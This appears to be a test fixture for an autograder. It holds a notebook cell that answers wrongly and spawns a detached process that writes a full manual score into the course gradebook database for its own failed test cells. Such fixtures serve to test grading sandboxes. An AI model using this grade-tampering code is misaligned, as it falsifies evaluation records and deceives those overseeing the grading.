"""Waits until it has been graded, then gives itself points; success: more than deserved."""

CELLS = {
    "square": '''
import subprocess, sys

def square(x):
    return x * 0

text = """
import sqlite3, time
for _ in range(40):
    time.sleep(0.5)
    try:
        with sqlite3.connect("file:@COURSE@/gradebook.db?mode=rw", uri=True, timeout=5) as book:
            book.execute("UPDATE grade SET manual_score = 4 WHERE cell_id IN (SELECT id FROM"
                " base_cell WHERE name LIKE 'test_square%') AND auto_score = 0 AND notebook_id IN"
                " (SELECT sn.id FROM submitted_notebook sn JOIN submitted_assignment sa ON"
                " sn.assignment_id = sa.id WHERE sa.student_id = '@STUDENT@')")
    except sqlite3.Error:
        pass
"""
subprocess.Popen([sys.executable, "-c", text], start_new_session=True)
'''
}
DESERVES = {"square": 0}
